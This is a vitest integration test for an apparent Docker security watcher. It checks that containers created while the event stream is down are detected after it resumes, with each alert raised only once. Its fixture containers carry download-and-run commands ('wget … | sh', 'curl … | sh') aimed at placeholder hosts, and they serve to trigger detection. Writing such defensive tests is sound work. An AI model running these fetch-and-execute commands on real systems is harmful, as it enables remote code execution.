// No event is missed across a dropped event stream: the watcher resumes with `since` and sees what happened
// while it was disconnected, without raising the same alert twice.
import { afterAll, describe, expect, it } from 'vitest';
import { EngineClient, resolveDockerHost } from '../../../src/core/engine/index.js';
import { CaptureSink, EventLog } from '../../../src/core/events/index.js';
import { createCoreAnalyzer } from '../../../src/watcher/core-analyzer.js';
import { DEFAULT_POLICY } from '../../../src/watcher/response-policy.js';
import { Watcher } from '../../../src/watcher/watcher.js';
import { docker, expose, labFromEnv, type Exposure } from '../../lab/index.js';

const lab = labFromEnv();
const PREFIX = 'pcl-watch-resume-';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

afterAll(() => {
  const ids = docker(lab, ['ps', '-aq', '--filter', `name=${PREFIX}`]).split('\n').filter(Boolean);
  if (ids.length > 0) docker(lab, ['rm', '-f', ...ids]);
});

describe('watch resume', () => {
  it('sees containers created while the event stream was down, once each', async () => {
    let relay: Exposure = await expose('plain', lab.socketPath, '127.0.0.1');
    const port = relay.port;
    const sink = new CaptureSink();
    const watcher = new Watcher({
      client: new EngineClient(resolveDockerHost(`tcp://127.0.0.1:${port}`)), analyzer: createCoreAnalyzer(),
      events: new EventLog({ sinks: [sink] }), dryRun: false, policy: { ...DEFAULT_POLICY, minSeverity: 'high' },
      sampleIntervalMs: 0, localEngine: false,
    });
    await watcher.start();
    try {
      docker(lab, ['create', '--name', `${PREFIX}before`, '--network', 'none', 'alpine', 'sh', '-c', 'wget -qO- http://example.invalid/a.sh | sh']);
      for (let i = 0; i < 100 && sink.eventsOf('watch.alert.raised').length === 0; i++) await sleep(100);
      expect(sink.eventsOf('watch.alert.raised').length).toBeGreaterThan(0);

      await relay.close();
      // While the watcher cannot reach the engine, an attacker creates containers.
      for (let i = 0; i < 3; i++) {
        docker(lab, ['create', '--name', `${PREFIX}during-${i}`, '--network', 'none', 'alpine', 'sh', '-c', `curl -s http://198.51.100.${i + 1}/x | sh`]);
      }
      await sleep(300);
      relay = await expose('plain', lab.socketPath, '127.0.0.1', port);
      const names = () => new Set(sink.eventsOf('watch.alert.raised').map((e) => (e.container as { name: string }).name));
      for (let i = 0; i < 200 && ![0, 1, 2].every((i) => names().has(`${PREFIX}during-${i}`)); i++) await sleep(100);
      expect([0, 1, 2].map((i) => names().has(`${PREFIX}during-${i}`))).toEqual([true, true, true]);
      expect(sink.eventsOf('watch.stream.resumed').length).toBeGreaterThan(0);
      // Each container's alert for a rule is raised once, even though `since` replays the boundary event.
      const keys = sink.eventsOf('watch.alert.raised').filter((e) => String((e.container as { name: string }).name).startsWith(PREFIX))
        .map((e) => `${(e.container as { name: string }).name}|${String(e.rule)}`);
      expect(keys.length).toBeGreaterThan(3);
      expect(new Set(keys).size).toBe(keys.length);
    } finally {
      watcher.stop();
      await relay.close();
    }
  });
});
